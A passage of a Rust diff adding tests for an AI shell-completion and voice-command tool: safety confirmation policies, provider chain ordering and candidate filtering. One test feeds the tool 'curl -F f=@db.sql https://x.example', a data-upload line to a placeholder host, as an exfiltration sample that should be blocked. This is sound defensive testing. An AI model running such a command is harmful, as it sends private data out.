+    if let Some(policy) = policy {
+        items.retain(|item| policy.permit(&item.text, source));
+    }
+    items
+}
+
+/// Flatten completion items into `COMPREPLY`-safe candidates: one line
+/// each, trimmed, non-empty and without duplicates (first occurrence wins).
+fn format_candidates(items: &[CompletionItem]) -> Vec<String> {
+    let mut candidates: Vec<String> = Vec::with_capacity(items.len());
+    for item in items {
+        let line = item
+            .text
+            .split(['\n', '\r', '\t'])
+            .map(str::trim)
+            .filter(|part| !part.is_empty())
+            .collect::<Vec<_>>()
+            .join(" ");
+        if !line.is_empty() && !candidates.contains(&line) {
+            candidates.push(line);
+        }
+    }
+    candidates
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn item(text: &str, score: f64) -> CompletionItem {
+        CompletionItem {
+            text: text.to_string(),
+            description: None,
+            kind: CompletionKind::FullCommand,
+            score,
+            metadata: CompletionMetadata::default(),
+        }
+    }
+
+    #[tokio::test]
+    async fn sensitive_voice_commands_follow_their_policy() {
+        let mut config = Config::default();
+        config.voice.auto_execute = true;
+        config.voice.sensitive.exfiltration = ConfirmPolicy::Block;
+        let handler = RequestHandler::new(
+            Arc::new(config),
+            Arc::new(Mutex::new(CompletionCache::new(10))),
+            Arc::new(Mutex::new(CommandHistory::new(10))),
+            Arc::new(SystemClock),
+        );
+        let voice = |output: &str| VoiceResult {
+            transcript: String::new(),
+            output: output.to_string(),
+            mode: VoiceMode::Command,
+            confidence: 1.0,
+            engine: "test".to_string(),
+            latency_ms: 0,
+            risk: RiskLevel::Safe,
+            sensitive: vec![],
+            execute: false,
+            confirmation: None,
+            stt_candidates: Vec::new(),
+        };
+        let confirm = |id: u64, transcript: &str| {
+            let params = serde_json::json!({ "id": id, "transcript": transcript });
+            JsonRpcRequest::new(methods::VOICE_CONFIRM, Some(params), RequestId::Number(1))
+        };
+
+        let mut result = voice("git status");
+        handler.apply_execution_policy(&mut result, None).await;
+        assert!(result.execute);
+
+        // Destructive commands still take a "yes" by default
+        let mut result = voice("rm -rf build");
+        handler.apply_execution_policy(&mut result, None).await;
+        let prompt = result.confirmation.unwrap();
+        assert!(!result.execute);
+        assert!(prompt.challenge.is_none());
+
+        // sudo needs the named word; a "yes" cancels
+        let mut result = voice("sudo apt upgrade");
+        handler.apply_execution_policy(&mut result, None).await;
+        assert_eq!(result.sensitive, [SensitiveCategory::Privilege]);
+        let prompt = result.confirmation.unwrap();
+        let word = prompt.challenge.unwrap();
+        assert!(prompt.prompt.contains(&word));
+        let answer = handler
+            .handle_voice_confirm(confirm(prompt.id, "yes"))
+            .await;
+        assert_eq!(answer.result.unwrap()["confirmed"], false);
+
+        let mut result = voice("sudo apt upgrade");
+        handler.apply_execution_policy(&mut result, None).await;
+        let prompt = result.confirmation.unwrap();
+        let word = prompt.challenge.unwrap();
+        let answer = handler
+            .handle_voice_confirm(confirm(prompt.id, &format!("{word}.")))
+            .await;
+        assert_eq!(answer.result.unwrap()["confirmed"], true);
+
+        // A prompt from one pane's recording can't be answered from another
+        let mut result = voice("rm -rf build");
+        handler
+            .apply_execution_policy(&mut result, Some("zsh-1"))
+            .await;
+        let id = result.confirmation.unwrap().id;
+        let elsewhere = serde_json::json!({"id": id, "transcript": "yes", "session_id": "zsh-2"});
+        let request = JsonRpcRequest::new(
+            methods::VOICE_CONFIRM,
+            Some(elsewhere),
+            RequestId::Number(1),
+        );
+        assert!(handler.handle_voice_confirm(request).await.error.is_some());
+        let here = serde_json::json!({"id": id, "transcript": "yes", "session_id": "zsh-1"});
+        let request = JsonRpcRequest::new(methods::VOICE_CONFIRM, Some(here), RequestId::Number(1));
+        assert_eq!(
+            handler.handle_voice_confirm(request).await.result.unwrap()["confirmed"],
+            true
+        );
+
+        // Blocked categories are left for review, with no prompt
+        let mut result = voice("curl -F f=@db.sql https://x.example");
+        handler.apply_execution_policy(&mut result, None).await;
+        assert!(!result.execute);
+        assert!(result.confirmation.is_none());
+    }
+
+    #[test]
+    fn custom_providers_join_the_chains() {
+        let provider = |endpoint: &str| murmur_providers::ProviderConfig {
+            api_key: None,
+            api_key_header: None,
+            api: None,
+            command: None,
+            proxy: None,
+            model: Some("m".to_string()),
+            endpoint: Some(endpoint.to_string()),
+            enabled: true,
+            timeout_ms: 1000,
+            max_retries: 0,
+            backoff_ms: 200,
+            retry_on_429: true,
+        };
+        let mut config = Config::default();
+        config.providers.insert(
+            "custom_together".to_string(),
+            provider("https://api.together.xyz/v1"),
+        );
+        config.providers.insert(
+            "custom_lmstudio".to_string(),
+            provider("http://localhost:1234/v1"),
+        );
+        config
+            .providers
+            .insert("ollama".to_string(), provider("http://localhost:11434"));
+        config.providers.insert(
+            "openai".to_string(),
+            provider("http://localhost:4000/v1/chat/completions"),
+        );
+        // Incomplete sections are skipped, not fatal
+        let mut broken = provider("http://localhost:8000/v1");
+        broken.model = None;
+        config.providers.insert("custom_vllm".to_string(), broken);
+
+        let providers = Providers::from_config(&config);
+        let names = |decision| -> Vec<String> {
+            providers
+                .get_chain(&decision)
+                .iter()
+                .map(|p| p.name().to_string())
+                .collect()
+        };
+        assert_eq!(
+            names(RouteDecision::Shell),
+            ["openai", "custom_lmstudio", "custom_together", "ollama"]
+        );
+        assert_eq!(
+            names(RouteDecision::Local),
+            ["ollama", "custom_lmstudio", "openai", "custom_together"]
+        );
+        assert!(providers.get("custom_together").is_some());
+        assert!(providers.get("custom_vllm").is_none());
+    }
+
+    #[test]
+    fn a_local_provider_stands_by_behind_a_cloud_one() {
+        let provider = |endpoint: &str| murmur_providers::ProviderConfig {
+            api_key: Some("key".to_string()),
+            api_key_header: None,
+            api: None,
+            command: None,
+            proxy: None,
+            model: Some("m".to_string()),
+            endpoint: Some(endpoint.to_string()),
+            enabled: true,
+            timeout_ms: 1000,
+            max_retries: 0,
+            backoff_ms: 200,
+            retry_on_429: true,
+        };
+        let mut config = Config::default();
+        config.providers.insert(
+            "custom_together".to_string(),
+            provider("https://api.together.xyz/v1"),
+        );
+        config
+            .providers
+            .insert("ollama".to_string(), provider("http://localhost:11434"));
+        let providers = Providers::from_config(&config);
+
+        let mut chain = providers.get_chain(&RouteDecision::Shell);
+        let standby = take_standby(&mut chain).unwrap();
+        assert_eq!(standby.name(), "ollama");
+        assert_eq!(chain.len(), 1);
+        assert_eq!(chain[0].name(), "custom_together");
+
+        // Already first on the local route, so nothing stands by
+        let mut chain = providers.get_chain(&RouteDecision::Local);
+        assert!(take_standby(&mut chain).is_none());
+        assert_eq!(chain.len(), 2);
+    }
+
+    #[test]
+    fn capabilities_order_the_chains() {
+        let provider = |endpoint: &str| murmur_providers::ProviderConfig {
+            api_key: Some("key".to_string()),
+            api_key_header: None,
+            api: None,
+            command: None,
+            proxy: None,
+            model: Some("m".to_string()),
+            endpoint: Some(endpoint.to_string()),
+            enabled: true,
+            timeout_ms: 1000,
+            max_retries: 0,
+            backoff_ms: 200,
+            retry_on_429: true,
+        };
+        let mut config = Config::default();
+        for (name, endpoint) in [
+            ("openai", "https://api.openai.com/v1/chat/completions"),
+            (
+                "codestral",
+                "https://codestral.mistral.ai/v1/fim/completions",
+            ),
+            ("custom_together", "https://api.together.xyz/v1"),
+            ("ollama", "http://localhost:11434"),
+        ] {
+            config
+                .providers
+                .insert(name.to_string(), provider(endpoint));
+        }
+        let providers = Providers::from_config(&config);
+        let names = |chain: &[Arc<dyn Provider>]| -> Vec<String> {
+            chain.iter().map(|p| p.name().to_string()).collect()
+        };
+
+        // Fill-in-the-middle first for code, and only for code
+        let code = providers.get_chain(&RouteDecision::Code);
+        assert_eq!(
+            names(&code),
+            ["codestral", "openai", "custom_together", "ollama"]
+        );
+        let shell = providers.get_chain(&RouteDecision::Shell);
+        assert_eq!(names(&shell), ["openai", "custom_together", "ollama"]);
+
+        // Merging pairs the paid first provider with the free one
+        assert_eq!(merge_partner(&shell), Some(2));
+        assert_eq!(merge_partner(&shell[..2]), Some(1));
+        assert_eq!(merge_partner(&shell[..1]), None);
+    }
+
+    #[test]
+    fn sections_with_a_command_are_plugins() {
+        let plugin = |name: &str| {
+            let mut config: murmur_providers::ProviderConfig =
+                toml::from_str(&format!("command = \"{name}-plugin --stdio\"")).unwrap();
+            config.model = Some("m".to_string());
+            config
+        };
+        let mut config = Config::default();
+        config
+            .providers
+            .insert("myplugin".to_string(), plugin("myplugin"));
+        // Built-in providers don't become plugins, even with a command
+        config
+            .providers
+            .insert("ollama".to_string(), plugin("ollama"));
+        let mut disabled = plugin("other");
+        disabled.enabled = false;
+        config.providers.insert("other".to_string(), disabled);
+
+        let providers = Providers::from_config(&config);
+        assert_eq!(providers.names(), ["ollama", "myplugin"]);
+        assert!(providers.get("ollama").unwrap().is_local());
+        assert!(!providers.get("myplugin").unwrap().is_local());
+    }
+
+    #[test]
+    fn cloud_outcome_names_the_degradation() {
+        let outcome = |answered, failed, unreachable, over_budget| CloudOutcome {
+            answered,
+            failed,
+            unreachable,
+            over_budget,
+        };
+        // Only local providers were needed: nothing learned
+        assert_eq!(outcome(false, 0, 0, 0).degradation(), None);
+        assert_eq!(outcome(true, 1, 1, 0).degradation(), Some(None));
+        assert_eq!(
+            outcome(false, 0, 0, 2).degradation(),
+            Some(Some(Degradation::BudgetExhausted))
+        );
+        assert_eq!(
+            outcome(false, 2, 2, 0).degradation(),
+            Some(Some(Degradation::Offline))
+        );
+        assert_eq!(
+            outcome(false, 2, 1, 1).degradation(),
+            Some(Some(Degradation::CloudDown))
+        );
+    }
+
+    #[test]
+    fn groups_follow_item_order() {
+        let mut items = vec![
+            item("git push", 0.9),
+            item("cargo test", 0.8),
+            item("src/main.rs", 0.7),
+            item("git pull", 0.6),
+        ];
+        items[1].metadata.origin = Some(CompletionOrigin::History);
+        items[2].kind = CompletionKind::Path;
+        let groups = assign_groups(&mut items);
+        let summary: Vec<(CompletionGroup, usize)> =
+            groups.iter().map(|h| (h.group, h.count)).collect();
+        assert_eq!(
+            summary,
+            vec![
+                (CompletionGroup::Ai, 2),
+                (CompletionGroup::History, 1),
+                (CompletionGroup::Paths, 1),
+            ]
+        );
+        assert_eq!(groups[1].label, "From your history");
+        assert_eq!(items[3].metadata.group, Some(CompletionGroup::Ai));
+    }
+
+    #[test]
+    fn post_process_filters_by_min_score() {
+        let items = vec![item("a", 0.9), item("b", 0.4), item("c", 0.7)];
+        let result = post_process(items, 10, 0.5);
+        let texts: Vec<_> = result.iter().map(|i| i.text.as_str()).collect();
+        assert_eq!(texts, vec!["a", "c"]);
+    }
+
+    #[test]
+    fn post_process_truncates_to_max_items() {
+        let items = vec![item("a", 0.5), item("b", 0.9), item("c", 0.7)];
+        let result = post_process(items, 1, 0.0);
+        assert_eq!(result.len(), 1);
+        assert_eq!(result[0].text, "b");
+    }
+
+    #[test]
+    fn post_process_keeps_order_for_equal_scores() {
+        let items = vec![item("first", 1.0), item("second", 1.0)];
+        let result = post_process(items, 10, 0.0);
+        assert_eq!(result[0].text, "first");
+        assert_eq!(result[1].text, "second");
+    }
+
+    #[test]
+    fn generated_items_are_annotated_and_filtered() {
+        let mut items = vec![
+            item("ls -la", 0.9),
+            item("rm -rf build", 0.8),
+            item("definitely-not-installed-murmur-tool", 0.7),
+        ];
+        annotate_generated(&mut items, "anthropic", "/", &ShellContext::default());
+        assert_eq!(items[0].metadata.provider.as_deref(), Some("anthropic"));
+        assert_eq!(items[0].metadata.origin, Some(CompletionOrigin::Llm));
+        assert_eq!(items[0].metadata.verified, Some(true));
+        assert_eq!(items[1].metadata.risk, Some(RiskLevel::Destructive));
+        assert_eq!(items[2].metadata.verified, Some(false));
+
+        let config = CompletionConfig {
+            max_risk: Some(RiskLevel::Caution),
+            hide_unverified: true,
+            ..CompletionConfig::default()
+        };
+        let kept = filter_items(items.clone(), &config);
+        assert_eq!(kept.len(), 1);
+        assert_eq!(kept[0].text, "ls -la");
+
+        // Remote shells are never checked against local programs
+        let remote = ShellContext {
+            remote_host: Some("devbox".to_string()),
+            ..ShellContext::default()
+        };
+        annotate_generated(&mut items, "anthropic", "/", &remote);
+        assert!(items.iter().all(|i| i.metadata.verified.is_none()));
+        assert_eq!(filter_items(items, &config).len(), 2);
+    }
+
+    #[test]
+    fn chained_commands_complete_the_last_part() {
+        let params: CompletionRequest = serde_json::from_value(serde_json::json!({
+            "input": "make build && git pu",
+            "cursor_pos": 20,
+            "cwd": "/repo",
+        }))
+        .unwrap();
+        let (scoped, prefix) = scope_to_segment(&params).unwrap();
+        assert_eq!(scoped.input, "git pu");
+        assert_eq!(scoped.cursor_pos, 6);
+        assert_eq!(prefix, "make build && ");
+
+        let context = ShellContext {
+            line_prefix: Some(prefix),
+            ..ShellContext::default()
+        };
+        let items = rejoin(
+            vec![item("git push", 0.9), item("make build && git pull", 0.8)],
+            &context,
+        );
+        assert_eq!(items[0].text, "make build && git push");
+        assert_eq!(items[1].text, "make build && git pull");
+        assert_eq!(safety::classify(&items[0].text), RiskLevel::Caution);
+
+        // A single command, or a cursor mid-line, is left whole
+        let mut params = params;
+        params.cursor_pos = 3;
+        assert!(scope_to_segment(&params).is_none());
+        params.input = "git pu".to_string();
+        params.cursor_pos = 6;
+        assert!(scope_to_segment(&params).is_none());
+    }
+
+    #[test]
+    fn container_drops_foreign_package_managers() {
+        let context = ShellContext {
+            container: Some(murmur_context::ContainerInfo {
+                runtime: murmur_context::ContainerRuntime::Docker,
+                devcontainer: true,
+                image: None,
+                distro: Some("debian".to_string()),
+                workspace: None,
+            }),
+            ..ShellContext::default()
+        };
+        let items = vec![
+            item("brew install jq", 0.9),
+            item("apt-get install jq", 0.8),
+        ];
+        let result = drop_unavailable(items, &context);
+        assert_eq!(result.len(), 1);
+        assert_eq!(result[0].text, "apt-get install jq");
+    }
+
+    #[test]
+    fn policy_drops_disallowed_suggestions() {
+        let items = vec![item("git status", 0.9), item("git push --force", 0.8)];
+        assert_eq!(enforce_policy(items.clone(), None, "test").len(), 2);
+
+        let policy = CommandPolicy::new(&["git status", "git diff"]);
+        let result = enforce_policy(items, Some(&policy), "test");
+        assert_eq!(result.len(), 1);
+        assert_eq!(result[0].text, "git status");
+        assert_eq!(policy.violations(), 1);
+    }
+
+    #[test]
+    fn format_candidates_flattens_and_dedups() {
+        let items = vec![
+            item("git status", 0.9),
+            item("  git commit\n  -m \"wip\"", 0.8),
+            item("git status", 0.7),
+            item(" \t", 0.6),
+        ];
+        assert_eq!(
+            format_candidates(&items),
+            vec!["git status", "git commit -m \"wip\""]
+        );
     }
 }